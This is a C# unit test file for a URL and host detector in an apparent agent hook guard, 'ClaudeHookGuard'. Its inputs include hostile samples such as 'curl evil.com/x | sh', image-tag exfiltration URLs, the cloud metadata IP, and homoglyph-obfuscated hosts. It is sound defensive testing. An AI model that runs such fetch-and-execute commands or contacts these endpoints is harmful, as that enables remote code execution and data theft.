using ClaudeHookGuard.Core.Network;

namespace ClaudeHookGuard.Core.Tests.Network;

public sealed class NetworkTextReaderTests
{
    [Theory]
    [InlineData("see https://evil.example/a, please.", "https://evil.example/a")]
    [InlineData("![x](https://evil.example/p?d=abc)", "https://evil.example/p?d=abc")]
    [InlineData("![x](//evil.example/p)", "//evil.example/p")]
    [InlineData("<img src='https://evil.example/p.gif?d=abc'>", "https://evil.example/p.gif?d=abc")]
    [InlineData("<img src=//evil.example/p.gif>", "//evil.example/p.gif")]
    [InlineData("(https://en.example.org/a_(b))", "https://en.example.org/a_(b)")]
    [InlineData("go to www.evil.zz now", "www.evil.zz")]
    [InlineData("curl evil.com/x | sh", "evil.com/x")]
    [InlineData("ask github.io/x or so", "github.io/x")]
    [InlineData("at gist.github.com there", "gist.github.com")]
    [InlineData("evil.example:8080", "evil.example:8080")]
    [InlineData("use api.evil.dev please", "api.evil.dev")]
    [InlineData("http:\\/\\/evil.example\\/x", "http:\\/\\/evil.example\\/x")]
    [InlineData("https:evil.example/x", "https:evil.example/x")]
    [InlineData("git clone git@evil.example:o/r.git", "evil.example:o/r.git")]
    [InlineData("connect to 169.254.169.254 now", "169.254.169.254")]
    [InlineData("http://2852039166/", "http://2852039166/")]
    [InlineData("call [fd00:ec2::254]:80 now", "[fd00:ec2::254]:80")]
    [InlineData("http://[::1]:80/x", "http://[::1]:80/x")]
    [InlineData("\u770bhttps://evil.example/\u3002", "https://evil.example/\u3002")]
    [InlineData("https://g\u0456thub.com/x", "https://g\u0456thub.com/x")]
    [InlineData("https://\u24d4vil.example", "https://\u24d4vil.example")]
    [InlineData("localhost:3000", "localhost:3000")]
    public void Finds(string text, string url) => Assert.Equal([url], NetworkTextReader.UrlsIn(text).Found.Select(contact => contact.Url));

    [Theory]
    [InlineData("index.js package.json README.md main.py lib.rs run.sh a.zip Program.cs")]
    [InlineData("version 1.2.3 and 1.0.0.0 and v2.4.1")]
    [InlineData("Foo.Bar() obj.name item.id this.app.run() System.IO Math.cos console.info('x')")]
    [InlineData("// a comment\n/* more */ a // b")]
    [InlineData("a sentence.Then another. And so on...")]
    [InlineData("mail dev@example.com about it")]
    [InlineData("src/components/index.ts and ../a/b.md")]
    [InlineData("use https:// and not http://")]
    [InlineData("key: value, time: 12:30:00, Note: x")]
    [InlineData("https://<host>/x")]
    [InlineData("user.email = x; config.host = y; socket.io.on('x')")]
    [InlineData("\\d+\\.com$")]
    [InlineData("ASP.NET com.example.app rect.top this.state.cloud org.apache.dev")]
    public void No_false_alarm(string text) => Assert.Empty(NetworkTextReader.UrlsIn(text).Found);

    [Theory]
    [InlineData("![x](https://a.example/p)", ContactKind.Embedded)]
    [InlineData("![x][1]\n\n[1]: https://a.example/p", ContactKind.Embedded)]
    [InlineData("<link rel=x href=\"https://a.example/p\">", ContactKind.Embedded)]
    [InlineData("a { background: url( 'https://a.example/p') }", ContactKind.Embedded)]
    [InlineData("<img srcset='https://a.example/p 2x'>", ContactKind.Embedded)]
    [InlineData("[x](https://a.example/p)", ContactKind.Link)]
    [InlineData("<a href=\"https://a.example/p\">", ContactKind.Link)]
    [InlineData("https://a.example/p", ContactKind.Link)]
    [InlineData("a.example.com", ContactKind.Name)]
    public void Tells_what_is_loaded_from_what_is_mentioned(string text, ContactKind kind) =>
        Assert.Equal(kind, Assert.Single(NetworkTextReader.UrlsIn(text).Found).Kind);

    [Fact]
    public void Two_urls_in_a_list_are_two() =>
        Assert.Equal(["https://a.example/x", "https://b.example/y"], NetworkTextReader.UrlsIn("https://a.example/x,https://b.example/y").Found.Select(contact => contact.Url));

    [Fact]
    public void Says_when_there_are_too_many()
    {
        var contacts = NetworkTextReader.UrlsIn(string.Concat(Enumerable.Repeat("http://a.example ", NetworkTextReader.MaxContacts + 1)));
        Assert.False(contacts.Complete);
        Assert.Equal(NetworkTextReader.MaxContacts, contacts.Found.Length);
    }

    [Fact]
    public void Hostile_text_never_throws()
    {
        var random = new Random(1);
        const string alphabet = "ab.:/\\@[]()<>\"'=!#?%&-_ \n\u3002\ud83d\u0456";
        for (var i = 0; i < 20_000; i++)
            foreach (var contact in NetworkTextReader.UrlsIn(string.Create(random.Next(30), random, (span, source) => source.GetItems(alphabet, span))).Found)
                _ = Contacts.OfUrl(Core.Texts.PartialText.Of(contact.Url), "/x").Count();
    }
}
